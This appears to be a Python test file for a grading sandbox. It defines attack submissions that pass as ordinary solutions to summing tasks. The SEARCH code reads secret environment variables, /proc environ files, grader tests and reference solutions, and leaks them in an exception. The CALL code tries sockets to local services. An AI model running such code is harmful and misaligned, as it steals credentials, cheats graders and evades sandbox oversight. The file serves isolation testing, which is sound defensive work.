"""Attacks that look for files to read and services to call."""

from __future__ import annotations

from graders.harness.sandbox.interface import Level
from tests.attacks.submissions.attack import Attack, Weak, calls_out, reads, sums

SEARCH = """
import glob, os, sys

def places():
    yield PLANTED["SECRET_FILE"]
    for pattern in ("/proc/*/environ", "/proc/[0-9]*/cmdline", "/proc/self/maps", "/proc/self/mountinfo"):
        yield from glob.glob(pattern)
    folders = {os.getcwd(), *sys.path}
    frame = sys._getframe()
    while frame is not None:
        folders.add(os.path.dirname(frame.f_code.co_filename))
        frame = frame.f_back
    for folder in list(folders):
        while len(folder) > 1:
            folder = os.path.dirname(folder)
            folders.add(folder)
    for folder in sorted(folders):
        for pattern in ("test_*.py", "tests/worlds/*/graders/*/test_*.py", "reference/*/*.py", "*.toml"):
            yield from glob.glob(os.path.join(folder or ".", pattern))

LOOT = []

def loot():
    found = [text for name, text in os.environ.items() if "TOKEN" in name or "SECRET" in name]
    for place in places():
        try:
            with open(place, "rb") as stream:
                found.append(stream.read(4000).decode("utf-8", "replace"))
        except OSError:
            pass
    return [text for text in found if PLANTED["PART"] in text or "def test_largest_single" in text]
"""

SHOW = """
if not LOOT:
    LOOT.append(loot())
if LOOT[0]:
    raise LookupError(" | ".join(LOOT[0]))
return max(numbers)
"""

CALL = """
import socket

def reach():
    reached = []
    ways = [
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PLANTED["TCP"])),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", PLANTED["TCP"])),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PLANTED["UDP"])),
        (socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + PLANTED["ABSTRACT"]),
        (socket.AF_UNIX, socket.SOCK_STREAM, PLANTED["SOCKET"]),
    ]
    for family, kind, address in ways:
        try:
            with socket.socket(family, kind) as line:
                line.settimeout(0.2)
                line.connect(address)
                line.send(b"hello")
                reached.append(str(address))
        except OSError:
            pass
    return reached
"""

ATTACKS = (
    Attack(
        52,
        "files of tests and staff, environments, the reference",
        Weak.PLAIN,
        reads,
        sums(SEARCH, largest=SHOW),
        open_at=frozenset({Level.E}),
        at={Level.E: {"sums.largest": "raised", "sums.largest-single": "raised"}},
    ),
    Attack(
        58,
        "network, datagrams and sockets of the machine",
        Weak.PLAIN,
        calls_out,
        sums(
            CALL + "DONE = []\n",
            total="if not DONE:\n    DONE.append(reach())\nreturn sum(numbers)",
        ),
        open_at=frozenset({Level.E}),
    ),
)
